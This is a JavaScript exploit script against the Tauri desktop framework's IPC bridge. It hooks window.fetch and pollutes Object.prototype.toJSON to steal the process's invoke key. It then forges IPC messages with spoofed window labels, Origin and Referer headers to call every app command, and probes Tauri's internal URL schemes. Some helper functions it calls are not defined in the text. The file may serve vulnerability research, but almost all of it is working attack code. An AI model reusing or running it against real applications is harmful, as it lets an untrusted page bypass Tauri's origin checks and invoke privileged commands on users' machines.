// The way to the program that Tauri gives every page, used in every way but the intended one.
"use strict";
const inner = window.__TAURI_INTERNALS__;
const pageFetch = window.fetch;
const channel = window.webkit.messageHandlers.ipc;
const KEY_BY_FETCH = [];
// Tauri tries to fetch first and puts the key of this process into a header.
window.fetch = (url, options) => {
  const key = new Headers(options?.headers).get("Tauri-Invoke-Key");
  if (key) KEY_BY_FETCH.push(key);
  return pageFetch(url, options);
};

/** The key that makes the program believe that a message comes from Tauri's own script. */
const stealKey = async () => {
  // The next call falls back to a message only if fetching fails, and this page's script decides what fetching does.
  await inner.invoke("bridge", { request: JSON.stringify({ cmd: "getLanguage" }) }).catch(() => {});
  if (KEY_BY_FETCH.length > 0) return KEY_BY_FETCH[0];
  // Later calls go by messages, which are made from an object that this can look into.
  const { toJSON } = Object.prototype;
  let key;
  Object.prototype.toJSON = function () {
    if (this.__TAURI_INVOKE_KEY__) key = this.__TAURI_INVOKE_KEY__;
    return this;
  };
  await inner.invoke("bridge", { request: JSON.stringify({ cmd: "getLanguage" }) }).catch(() => {});
  if (toJSON === undefined) delete Object.prototype.toJSON;
  return key;
};

/** Calls a command by a message made by hand, as `label` and with `headers` that lie. */
const forged = (key, cmd, payload, options = {}) =>
  new Promise((resolve, reject) => {
    const callback = inner.transformCallback(resolve, true);
    const error = inner.transformCallback(reject, true);
    const lies = { "Tauri-Webview-Label": "main", Origin: "tauri://localhost", Referer: "tauri://localhost/" };
    channel.postMessage(JSON.stringify({ cmd, callback, error, payload, options: { headers: lies, customProtocolIpcBlocked: true, ...options }, label: "main", webview: "main", windowLabel: "main", url: "tauri://localhost/", __TAURI_INVOKE_KEY__: key }));
  });

const answered = async (call) => {
  try {
    return `answered ${JSON.stringify(await Promise.race([call, nothing()])) ?? "nothing"}`.slice(0, 200);
  } catch (error) {
    return `refused: ${typeof error === "string" ? error : JSON.stringify(error)}`;
  }
};

/** Calls every command with its arguments, once as Tauri does and once by hand with the stolen key. */
const everyCommand = async (commands) => {
  const key = await stealKey();
  const calls = Object.entries(commands).map(async ([cmd, payload]) => ({
    cmd,
    plain: await answered(inner.invoke(cmd, payload)),
    forged: await answered(forged(key, cmd, payload)),
    headed: await answered(inner.invoke(cmd, payload, { headers: { "Tauri-Webview-Label": "main", Origin: "tauri://localhost" } })),
  }));
  return { key: typeof key === "string" ? key.length : 0, results: await Promise.all(calls) };
};

/** Requests to the schemes by which Tauri itself answers. */
const byScheme = async () => {
  const key = await stealKey();
  const headers = { "Tauri-Invoke-Key": key, "Tauri-Callback": "1", "Tauri-Error": "2", "Content-Type": "application/json" };
  const request = JSON.stringify({ request: { op: "state" } });
  const results = {};
  for (const url of ["ipc://localhost/shell", "ipc://localhost/bridge", "http://ipc.localhost/shell", "tauri://localhost/shell", "cocoapp://main/shell"]) {
    results[`post ${url}`] = await answered(pageFetch(url, { method: "POST", headers, body: request }).then((answer) => answer.text()));
    results[`image ${url}`] = await watch(() => element("img", { src: url }));
    results[`form ${url}`] = await watch(() => (submit(url, { method: "post" }), settled()));
  }
  return results;
};
